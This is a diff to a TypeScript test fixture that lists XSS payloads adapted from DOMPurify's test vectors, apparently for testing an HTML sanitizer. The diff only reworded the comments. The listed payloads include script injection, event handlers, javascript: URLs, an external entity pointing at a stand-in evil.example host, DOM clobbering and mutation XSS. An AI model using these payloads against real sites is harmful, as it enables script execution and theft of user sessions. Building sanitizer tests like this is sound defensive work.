@@ -1,10 +1,10 @@
 /**
- * Texts that are to harm a reader, one or a few for each trick that DOMPurify's own test vectors know
+ * XSS payloads: one or a few for each technique in DOMPurify's own test vectors
  * (github.com/cure53/DOMPurify, test/fixtures/expect.mjs; Mario Heiderich and contributors, Apache-2.0 or MPL-2.0;
- * many of the tricks from html5sec.org). Written down anew and shortened; each says `evil` where it would act.
+ * many of the techniques from html5sec.org). Rewritten and shortened; each contains `evil` where it would execute.
  */
 export const hostileMarkup: string[] = [
-  // Scripts, plain and disguised.
+  // Scripts, plain and obfuscated.
   '<script>evil()</script>',
   '<ScRiPt src=//evil.example></sCrIpT>',
   '<script<{evil()}/></script </>',
@@ -14,7 +14,7 @@ export const hostileMarkup: string[] = [
   '<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script></svg>',
   '<svg><script xlink:href="data:,evil()"></script></svg>',
   '<script>({set/**/$($){_/**/setter=$,_=1}}).$=evil</script>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=evil()>',
   '<img/src=x\tonerror=evil()//',
   "<img src=x id/=' onerror=evil()//'>",
@@ -29,7 +29,7 @@ export const hostileMarkup: string[] = [
   '<form onsubmit=evil()><input onfocus=evil() name=parentNode>a</form>',
   '<marquee onstart=evil()>a</marquee>',
   '<li style=list-style:url() onerror=evil()></li>',
-  // Addresses.
+  // URLs.
   '<a href="javascript:evil()">a</a>',
   '<a href="JaVaScRiPt:evil()">a</a>',
   '<a href=" &#14; javascript:evil()">a</a>',
@@ -58,11 +58,11 @@ export const hostileMarkup: string[] = [
   '<?xml-stylesheet href="javascript:evil()"?><root/>',
   '<!DOCTYPE x[<!ENTITY x SYSTEM "http://evil.example/x">]><y>&x;</y>',
   '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:evil()//#x"/>',
-  // Names that stand in the way of the document's own.
+  // DOM clobbering.
   '<form><input name="attributes"><input name="attributes"></form>',
   '<img src=x name=createElement><img src=y id=createElement><form name=body></form>',
   '<a id=location href="https://x.example">a</a><a id=__proto__>b</a><p id=cookie name=domain>c</p>',
-  // Texts that change their meaning when they are read again.
+  // Mutation XSS: markup that changes its meaning when it is parsed again.
   '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
   '<b><noscript><!-- </noscript><img src=x onerror=evil() --></noscript>',
   '<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=evil()&gt;"></mi></math>',
@@ -82,7 +82,7 @@ export const hostileMarkup: string[] = [
   '\u0001<option><style></option></select><b><img src=x onerror=evil()></style></option>',
   '<b><style><style////><img src=x onerror=evil()></style>',
   '<comment><img src="</comment><img src=x onerror=evil()//"></comment>',
-  // Comments and half tags.
+  // Comments and unclosed tags.
   '<!-- `<img/src=xxx onerror=evil()//--!>a',
   '<!--[if]><script>evil()</script --><!--[if<img src=x onerror=evil()//]> -->',
   "<! '=\"foo\"><x foo='><img src=x onerror=evil()//'>",
